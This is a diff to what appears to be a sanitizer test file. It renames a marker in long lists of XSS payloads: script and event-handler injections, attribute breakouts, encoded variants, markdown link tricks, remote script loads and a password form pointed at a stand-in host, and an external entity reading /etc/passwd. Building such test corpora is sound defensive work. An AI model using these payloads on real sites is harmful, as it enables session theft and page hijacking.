@@ -12,185 +12,185 @@ from xml.etree.ElementTree import Element
 
 import html5lib
 
-MARK = "xq7"
+MARK = "xq9"  # no public id has a 9 (RFC 4648, section 6): none is taken for it by chance
 
 _ELEMENTS = (
     """
-<script>xq7()</script>
-<SCRIPT>xq7()</SCRIPT>
-<script src=//xq7.example></script>
-<script/xq7>xq7()</script>
-<scr<script>ipt>xq7()</scr</script>ipt>
-<script\x20type="text/javascript">xq7();</script>
-<script\x0d>xq7()</script>
-<script type=module>import 'https://xq7.example/x.js'</script>
-<script type="text/template">xq7</script>
-<noscript><p title="</noscript><img src=x onerror=xq7()>">
-<img src=x onerror=xq7()>
-<img src=x onerror="xq7()">
-<img src=x onerror='xq7()'
-<img src=x:xq7 onerror=eval(src)>
-<IMG SRC="jav&#x09;ascript:xq7();">
+<script>xq9()</script>
+<SCRIPT>xq9()</SCRIPT>
+<script src=//xq9.example></script>
+<script/xq9>xq9()</script>
+<scr<script>ipt>xq9()</scr</script>ipt>
+<script\x20type="text/javascript">xq9();</script>
+<script\x0d>xq9()</script>
+<script type=module>import 'https://xq9.example/x.js'</script>
+<script type="text/template">xq9</script>
+<noscript><p title="</noscript><img src=x onerror=xq9()>">
+<img src=x onerror=xq9()>
+<img src=x onerror="xq9()">
+<img src=x onerror='xq9()'
+<img src=x:xq9 onerror=eval(src)>
+<IMG SRC="jav&#x09;ascript:xq9();">
 <img """
     + '"""'
-    + """><script>xq7()</script>">
-<img src=`x` onerror=xq7()>
-<img/src/onerror=xq7()>
-<img src=x onerror=&#x78;q7() class=xq7>
-<image src=x onerror=xq7()>
-<svg onload=xq7()>
-<svg/onload=xq7()>
-<svg><script>xq7()</script></svg>
-<svg><animate onbegin=xq7() attributeName=x dur=1s>
-<svg><set attributeName=href to=javascript:xq7()>
-<svg><a xlink:href="javascript:xq7()"><text y=20>x</text></a></svg>
-<svg><use href="data:image/svg+xml;base64,xq7"></use></svg>
-<svg><foreignObject><iframe srcdoc="<script>xq7()</script>">
-<svg><style><img src=x onerror=xq7()></style></svg>
-<svg><title><img src=x onerror=xq7()></title></svg>
-<svg><desc><![CDATA[</desc><script>xq7()</script>]]></svg>
-<math><mtext><table><mglyph><style><img src=x onerror=xq7()>
-<math href="javascript:xq7()">x</math>
-<math><mi//xlink:href="data:x,<script>xq7()</script>">
-<math><annotation-xml encoding="text/html"><script>xq7()</script>
-<form><math><mtext></form><form><mglyph><style></math><img src onerror=xq7()>
-<body onload=xq7()>
-<body onpageshow=xq7()>
-<html onmouseover=xq7()>
-<iframe src="javascript:xq7()">
-<iframe srcdoc="&lt;img src=x onerror=xq7()&gt;"></iframe>
-<iframe onload=xq7()>
-<frameset onload=xq7()>
-<object data="javascript:xq7()">
-<object data="data:text/html;base64,xq7"></object>
-<embed src="javascript:xq7()">
-<embed src="//xq7.example/x.swf" allowscriptaccess=always>
-<applet code=xq7>
-<a href="javascript:xq7()">x</a>
-<a href="JaVaScRiPt:xq7()">x</a>
-<a href="java\tscript:xq7()">x</a>
-<a href="java&NewLine;script:xq7()">x</a>
-<a href="&#106;avascript:xq7()">x</a>
-<a href="\x01javascript:xq7()">x</a>
-<a href="data:text/html,<script>xq7()</script>">x</a>
-<a href=vbscript:xq7>x</a>
-<a onclick=xq7()>x</a>
-<a style="width:expression(xq7())">x</a>
-<a href="/me" ping="//xq7.example">x</a>
-<base href="//xq7.example/">
-<meta http-equiv=refresh content="0;url=javascript:xq7()">
-<meta http-equiv="Content-Security-Policy" content="script-src xq7.example">
-<link rel=stylesheet href="//xq7.example/x.css">
-<link rel=import href="//xq7.example/">
-<link rel=preload href=//xq7.example as=script onload=xq7()>
-<style>@import '//xq7.example/x.css';</style>
-<style>*{background:url(//xq7.example)}</style>
-<div style="background:url(//xq7.example)">x</div>
-<div style=behavior:url(xq7.htc)>
-<input autofocus onfocus=xq7()>
-<input type=image src=x onerror=xq7()>
-<select autofocus onfocus=xq7()>
-<textarea autofocus onfocus=xq7()>
-<keygen autofocus onfocus=xq7()>
-<button formaction=javascript:xq7()>x</button>
-<form action="javascript:xq7()"><input type=submit>
-<form action=//xq7.example><input name=password>
-<isindex action=javascript:xq7() type=image>
-<details open ontoggle=xq7()>
-<marquee onstart=xq7()>
-<video src=x onerror=xq7()>
-<video><source onerror=xq7()>
-<audio src=x onerror=xq7()>
-<track default onload=xq7()>
-<dialog open onclose=xq7()>
-<template><script>xq7()</script></template>
-<slot name=xq7 onslotchange=xq7()>
-<xq7 onclick=1>
-<xq7>x</xq7>
-<x contenteditable onblur=xq7()>
-<x onpointerenter=xq7() style=position:fixed;inset:0>x
-<p hx-get=//xq7.example hx-trigger=load>
-<p data-hx-get=//xq7.example data-hx-trigger=load>
-<p hx-on:click=xq7()>
-<p hx-vals='js:{a:xq7()}'>
-<p id=xq7 name=xq7>
-<plaintext>xq7
-<listing>&lt;img src=x onerror=xq7()&gt;</listing>
-<xmp><img src=x onerror=xq7()></xmp>
-<table background=javascript:xq7()>
-<portal src=javascript:xq7()>
-<?xml-stylesheet href="javascript:xq7()"?>
-<!--[if gte IE 4]><script>xq7()</script><![endif]-->
-<!--<img src="--><img src=x onerror=xq7()>
-<!--><script>xq7()</script>
-<![CDATA[<script>xq7()</script>]]>
-<!ENTITY xq7 SYSTEM "file:///etc/passwd">
+    + """><script>xq9()</script>">
+<img src=`x` onerror=xq9()>
+<img/src/onerror=xq9()>
+<img src=x onerror=&#x78;q9() class=xq9>
+<image src=x onerror=xq9()>
+<svg onload=xq9()>
+<svg/onload=xq9()>
+<svg><script>xq9()</script></svg>
+<svg><animate onbegin=xq9() attributeName=x dur=1s>
+<svg><set attributeName=href to=javascript:xq9()>
+<svg><a xlink:href="javascript:xq9()"><text y=20>x</text></a></svg>
+<svg><use href="data:image/svg+xml;base64,xq9"></use></svg>
+<svg><foreignObject><iframe srcdoc="<script>xq9()</script>">
+<svg><style><img src=x onerror=xq9()></style></svg>
+<svg><title><img src=x onerror=xq9()></title></svg>
+<svg><desc><![CDATA[</desc><script>xq9()</script>]]></svg>
+<math><mtext><table><mglyph><style><img src=x onerror=xq9()>
+<math href="javascript:xq9()">x</math>
+<math><mi//xlink:href="data:x,<script>xq9()</script>">
+<math><annotation-xml encoding="text/html"><script>xq9()</script>
+<form><math><mtext></form><form><mglyph><style></math><img src onerror=xq9()>
+<body onload=xq9()>
+<body onpageshow=xq9()>
+<html onmouseover=xq9()>
+<iframe src="javascript:xq9()">
+<iframe srcdoc="&lt;img src=x onerror=xq9()&gt;"></iframe>
+<iframe onload=xq9()>
+<frameset onload=xq9()>
+<object data="javascript:xq9()">
+<object data="data:text/html;base64,xq9"></object>
+<embed src="javascript:xq9()">
+<embed src="//xq9.example/x.swf" allowscriptaccess=always>
+<applet code=xq9>
+<a href="javascript:xq9()">x</a>
+<a href="JaVaScRiPt:xq9()">x</a>
+<a href="java\tscript:xq9()">x</a>
+<a href="java&NewLine;script:xq9()">x</a>
+<a href="&#106;avascript:xq9()">x</a>
+<a href="\x01javascript:xq9()">x</a>
+<a href="data:text/html,<script>xq9()</script>">x</a>
+<a href=vbscript:xq9>x</a>
+<a onclick=xq9()>x</a>
+<a style="width:expression(xq9())">x</a>
+<a href="/me" ping="//xq9.example">x</a>
+<base href="//xq9.example/">
+<meta http-equiv=refresh content="0;url=javascript:xq9()">
+<meta http-equiv="Content-Security-Policy" content="script-src xq9.example">
+<link rel=stylesheet href="//xq9.example/x.css">
+<link rel=import href="//xq9.example/">
+<link rel=preload href=//xq9.example as=script onload=xq9()>
+<style>@import '//xq9.example/x.css';</style>
+<style>*{background:url(//xq9.example)}</style>
+<div style="background:url(//xq9.example)">x</div>
+<div style=behavior:url(xq9.htc)>
+<input autofocus onfocus=xq9()>
+<input type=image src=x onerror=xq9()>
+<select autofocus onfocus=xq9()>
+<textarea autofocus onfocus=xq9()>
+<keygen autofocus onfocus=xq9()>
+<button formaction=javascript:xq9()>x</button>
+<form action="javascript:xq9()"><input type=submit>
+<form action=//xq9.example><input name=password>
+<isindex action=javascript:xq9() type=image>
+<details open ontoggle=xq9()>
+<marquee onstart=xq9()>
+<video src=x onerror=xq9()>
+<video><source onerror=xq9()>
+<audio src=x onerror=xq9()>
+<track default onload=xq9()>
+<dialog open onclose=xq9()>
+<template><script>xq9()</script></template>
+<slot name=xq9 onslotchange=xq9()>
+<xq9 onclick=1>
+<xq9>x</xq9>
+<x contenteditable onblur=xq9()>
+<x onpointerenter=xq9() style=position:fixed;inset:0>x
+<p hx-get=//xq9.example hx-trigger=load>
+<p data-hx-get=//xq9.example data-hx-trigger=load>
+<p hx-on:click=xq9()>
+<p hx-vals='js:{a:xq9()}'>
+<p id=xq9 name=xq9>
+<plaintext>xq9
+<listing>&lt;img src=x onerror=xq9()&gt;</listing>
+<xmp><img src=x onerror=xq9()></xmp>
+<table background=javascript:xq9()>
+<portal src=javascript:xq9()>
+<?xml-stylesheet href="javascript:xq9()"?>
+<!--[if gte IE 4]><script>xq9()</script><![endif]-->
+<!--<img src="--><img src=x onerror=xq9()>
+<!--><script>xq9()</script>
+<![CDATA[<script>xq9()</script>]]>
+<!ENTITY xq9 SYSTEM "file:///etc/passwd">
 """
 )
 _BREAKOUTS = """
-"><script>xq7()</script>
-'><script>xq7()</script>
-"><img src=x onerror=xq7()>
-" onmouseover=xq7() x="
-' onmouseover=xq7() x='
-" autofocus onfocus=xq7() x="
-` onmouseover=xq7() x=`
-x onmouseover=xq7()
-"/onmouseover=xq7()//
-</title><script>xq7()</script>
-</textarea><script>xq7()</script>
-</script><script>xq7()</script>
-</style><script>xq7()</script>
-</option></select><img src=x onerror=xq7()>
-</h1></main><img src=x onerror=xq7()>
---><img src=x onerror=xq7()>
-]]><img src=x onerror=xq7()>
-';xq7();//
-";xq7();//
-\\";xq7();//
-</script\x20><svg onload=xq7()>
-\u2028xq7()\u2029
-&lt;script&gt;xq7()&lt;/script&gt;
-&#60;img src=x onerror=xq7()&#62;
-%3Cscript%3Exq7()%3C/script%3E
-\\x3cscript\\x3exq7()\\x3c/script\\x3e
-\uff1cscript\uff1exq7()\uff1c/script\uff1e
-+ADw-script+AD4-xq7()+ADw-/script+AD4-
-<\x00script>xq7()</script>
-<script\ufeff>xq7()</script>
-\u202e<script>xq7()</script>
-<img src=x onerror=xq7()//
-"><!--xq7
-javascript:xq7()
-javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+xq7()//'>
-data:text/html,<script>xq7()</script>
-//xq7.example/
-\\\\xq7.example\\
-/\\xq7.example
+"><script>xq9()</script>
+'><script>xq9()</script>
+"><img src=x onerror=xq9()>
+" onmouseover=xq9() x="
+' onmouseover=xq9() x='
+" autofocus onfocus=xq9() x="
+` onmouseover=xq9() x=`
+x onmouseover=xq9()
+"/onmouseover=xq9()//
+</title><script>xq9()</script>
+</textarea><script>xq9()</script>
+</script><script>xq9()</script>
+</style><script>xq9()</script>
+</option></select><img src=x onerror=xq9()>
+</h1></main><img src=x onerror=xq9()>
+--><img src=x onerror=xq9()>
+]]><img src=x onerror=xq9()>
+';xq9();//
+";xq9();//
+\\";xq9();//
+</script\x20><svg onload=xq9()>
+\u2028xq9()\u2029
+&lt;script&gt;xq9()&lt;/script&gt;
+&#60;img src=x onerror=xq9()&#62;
+%3Cscript%3Exq9()%3C/script%3E
+\\x3cscript\\x3exq9()\\x3c/script\\x3e
+\uff1cscript\uff1exq9()\uff1c/script\uff1e
++ADw-script+AD4-xq9()+ADw-/script+AD4-
+<\x00script>xq9()</script>
+<script\ufeff>xq9()</script>
+\u202e<script>xq9()</script>
+<img src=x onerror=xq9()//
+"><!--xq9
+javascript:xq9()
+javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+xq9()//'>
+data:text/html,<script>xq9()</script>
+//xq9.example/
+\\\\xq9.example\\
+/\\xq9.example
 """
 _MARKDOWN = """
-[x](javascript:xq7())
-[x](JAVASCRIPT:xq7())
-[x](javascript&colon;xq7())
-[x]( javascript:xq7())
-[x](java\\script:xq7())
-[x](data:text/html,xq7)
-[x](vbscript:xq7)
-[x](//xq7.example)
-[x](</me> "xq7\\" onclick=xq7()")
-[x](https://ok.example "xq7\\" onmouseover=\\"xq7()")
-[x](https://ok.example/"onmouseover="xq7()")
-![x](javascript:xq7())
-![x](https://xq7.example/pixel.png)
-<javascript:xq7()>
-<https://ok.example/"onmouseover=xq7()>
-https://ok.example/"onmouseover="xq7()"
-https://ok.example/<script>xq7()</script>
-[x]: javascript:xq7()
-`<img src=x onerror=xq7()>`
-**<img src=x onerror=xq7()>**
-> <script>xq7()</script>
-- <svg onload=xq7()>
+[x](javascript:xq9())
+[x](JAVASCRIPT:xq9())
+[x](javascript&colon;xq9())
+[x]( javascript:xq9())
+[x](java\\script:xq9())
+[x](data:text/html,xq9)
+[x](vbscript:xq9)
+[x](//xq9.example)
+[x](</me> "xq9\\" onclick=xq9()")
+[x](https://ok.example "xq9\\" onmouseover=\\"xq9()")
+[x](https://ok.example/"onmouseover="xq9()")
+![x](javascript:xq9())
+![x](https://xq9.example/pixel.png)
+<javascript:xq9()>
+<https://ok.example/"onmouseover=xq9()>
+https://ok.example/"onmouseover="xq9()"
+https://ok.example/<script>xq9()</script>
+[x]: javascript:xq9()
+`<img src=x onerror=xq9()>`
+**<img src=x onerror=xq9()>**
+> <script>xq9()</script>
+- <svg onload=xq9()>
 """
 
 
